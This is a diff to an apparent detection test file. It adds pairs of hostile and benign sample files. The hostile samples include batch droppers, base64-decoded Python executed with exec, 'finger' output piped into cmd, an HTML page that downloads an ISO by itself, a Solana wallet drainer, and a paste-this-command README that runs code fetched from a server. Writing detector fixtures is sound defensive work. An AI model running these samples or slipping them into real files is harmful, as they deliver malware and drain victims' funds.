@@ -180,10 +180,46 @@ const PAIRS: readonly (readonly [
     "New-InboxRule -Mailbox a@b.example -Name 'Orders' -SubjectContainsWords 'order' -MoveToFolder 'a:\\Inbox\\Orders'\r\n",
   ],
   [
-    'a script that saves a program of a server',
-    'a.vbs',
-    `${SAVES('a.exe')}CreateObject("WScript.Shell").Run "C:\\Data\\a.exe"\r\n`,
-    SAVES('rates.xml'),
+    'a search whose place is a property',
+    'a.searchConnector-ms',
+    '<?xml version="1.0"?><searchConnectorDescription xmlns="x"><propertyBag><property name="Url" type="string"><![CDATA[https://files.example/dav/]]></property></propertyBag></searchConnectorDescription>',
+    '<?xml version="1.0"?><searchConnectorDescription xmlns="x"><propertyBag><property name="Url" type="string"><![CDATA[C:\\Users\\Public]]></property></propertyBag></searchConnectorDescription>',
+  ],
+  [
+    'a batch file that keeps a program as data',
+    'a.cmd',
+    '@echo off\r\ncopy /y "%~dp0a.dat" "%TEMP%\\a.exe" >nul & start "" "%TEMP%\\a.exe"\r\n',
+    '@echo off\r\ncopy /y "%~dp0a.dat" "D:\\Backup\\a.dat" >nul & start "" "D:\\Backup"\r\n',
+  ],
+  [
+    'a batch file that runs data as Python',
+    'a.cmd',
+    '@echo off\r\npythonw.exe -c "import base64;exec(base64.b64decode(open(\'doc.dat\').read()))"\r\n',
+    '@echo off\r\npython.exe -c "import json;print(json.load(open(\'doc.json\')))"\r\n',
+  ],
+  [
+    'a batch file that runs what finger answers',
+    'a.cmd',
+    '@echo off\r\nfinger update@203.0.113.5 | more +2 | cmd\r\n',
+    '@echo off\r\nfinger anna@mail.example | more\r\n',
+  ],
+  [
+    'a page that saves a short disk image by itself',
+    'a.html',
+    '<html><body><a id="d" download="Rechnung.iso" href="data:application/octet-stream;base64,AAAAAAAAAAAAAAAA"></a><script>setTimeout(()=>document.getElementById("d").click(),800)</script></body></html>',
+    '<html><body><a id="d" download="rates.csv" href="data:application/octet-stream;base64,MTsyCg=="></a><script>setTimeout(()=>document.getElementById("d").click(),800)</script></body></html>',
+  ],
+  [
+    'a script without its page that sends all that a wallet has',
+    'a.js',
+    'const p = window.solana; async function f(c) { const bal = await c.getBalance(p.publicKey); const t = new Transaction().add(SystemProgram.transfer({ fromPubkey: p.publicKey, toPubkey: new PublicKey("7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU"), lamports: bal - 5000 })); await p.signTransaction(t) } f(c)',
+    'const p = window.solana; async function f(c, to, amount) { const bal = await c.getBalance(p.publicKey); if (bal < amount) return; const t = new Transaction().add(SystemProgram.transfer({ fromPubkey: p.publicKey, toPubkey: to, lamports: amount })); await p.signTransaction(t) } f(c)',
+  ],
+  [
+    'a note that has its reader run what a server answers',
+    'a.md',
+    '# Camera\n\nPress Windows + R, enter `cmd` and paste:\n\n    for /f "delims=" %i in (\'curl -s https://camera-fix.example/c\') do %i\n',
+    '# Camera\n\nPress Windows + R, enter `cmd` and paste:\n\n    for /f "delims=" %i in (\'dir /b\') do echo %i\n',
   ],
 ]
 
